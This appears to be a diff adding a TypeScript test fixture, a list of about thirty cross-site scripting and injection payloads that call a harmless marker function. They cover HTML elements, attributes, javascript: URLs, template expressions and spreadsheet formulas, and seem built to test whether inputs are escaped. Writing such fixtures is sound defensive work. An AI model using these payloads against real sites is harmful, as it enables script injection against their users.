@@ -1,0 +1,36 @@
+/**
+ * Texts that run a script wherever they are taken for more than texts: each calls `ran()`. Short enough that two of them fit into a
+ * name, and each breaks out of another place: an element, an attribute, an address, a script, a style, a template, a spreadsheet.
+ */
+export const scriptPayloads: readonly string[] = [
+  '<script>ran()</script>',
+  '<img src=x onerror=ran()>',
+  '<svg onload=ran()>',
+  '"><img src=x onerror=ran()>',
+  "'><img src=x onerror=ran()>",
+  '" autofocus onfocus=ran() x="',
+  "' onpointerenter=ran() x='",
+  '--><svg onload=ran()>',
+  ']]><svg onload=ran()>',
+  '</title><svg onload=ran()>',
+  '</style><svg onload=ran()>',
+  '</textarea><svg onload=ran()>',
+  '</script><script>ran()</script>',
+  '<details open ontoggle=ran()>',
+  '<input autofocus onfocus=ran()>',
+  '<video src=x onerror=ran()>',
+  '<body onload=ran()>',
+  '<iframe src=javascript:parent.ran()>',
+  '<a href=javascript:ran()>x</a>',
+  '<object data=javascript:ran()>',
+  '<base href=javascript:ran()//>',
+  '<style onload=ran()>',
+  '<marquee onstart=ran()>',
+  '&lt;img src=x onerror=ran()&gt;',
+  '%3Csvg onload=ran()%3E',
+  'javascript:ran()',
+  "'-ran()-'",
+  '`${ran()}`',
+  "{{constructor.constructor('ran()')()}}",
+  '=HYPERLINK("javascript:ran()")',
+];
